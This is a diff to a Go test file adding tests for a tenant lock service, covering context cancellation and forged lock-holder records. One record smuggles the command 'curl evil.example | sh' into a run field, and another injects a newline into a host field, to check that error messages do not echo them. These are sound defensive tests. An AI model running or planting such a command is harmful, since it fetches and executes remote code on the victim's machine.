@@ -1,6 +1,7 @@
 package blob_test
 
 import (
+	"context"
 	"errors"
 	"net/http"
 	"strings"
@@ -44,6 +45,22 @@ func TestALiveRunKeepsItsTenant(t *testing.T) {
 		must(t, lock.Renew())
 		must(t, lock.Release())
 		must(t, second.acquire(t, other).Release())
+	})
+}
+
+// TestASignalEndsNoLock has a run finish what is in flight, which takes long.
+func TestASignalEndsNoLock(t *testing.T) {
+	t.Parallel()
+	synctest.Test(t, func(t *testing.T) {
+		service := &blobtest.Service{}
+		ctx, signal := context.WithCancel(t.Context())
+		lock, err := newRunner(t, service).Acquire(ctx, tenant, holder(run))
+		must(t, err)
+		signal()
+		time.Sleep(10 * time.Minute) //nolint:forbidigo // of fake time
+		wantLocked(t, newRunner(t, service), other, run)
+		must(t, lock.Renew())
+		must(t, lock.Release())
 	})
 }
 
@@ -153,6 +170,25 @@ func TestTwoRunnersAtOnce(t *testing.T) {
 	}
 	if holders != 1 {
 		t.Errorf("%d runners have the tenant", holders)
+	}
+}
+
+// TestAHolderThatIsNoneIsNotQuoted has somebody else write who has the tenant.
+func TestAHolderThatIsNoneIsNotQuoted(t *testing.T) {
+	t.Parallel()
+	for written, want := range map[string]string{
+		`{"run":"x; curl evil.example | sh","host":"h","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`:        "",
+		`{"run":"` + run + `","host":"h\nexit_reason: ok (0)","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`: run,
+	} {
+		service := &blobtest.Service{}
+		lock := newRunner(t, service).acquire(t, run)
+		service.Overwrite("runs", journal.LockName(tenant), []byte(written))
+		_, err := newRunner(t, service).Acquire(t.Context(), tenant, holder(other))
+		locked, is := errors.AsType[*journal.LockedError](err)
+		if !is || locked.Holder.Run != want || strings.ContainsAny(err.Error()+locked.Hint(), "\n|") {
+			t.Errorf("%s: got %v (%v)", written, err, locked)
+		}
+		must(t, lock.Release())
 	}
 }
 
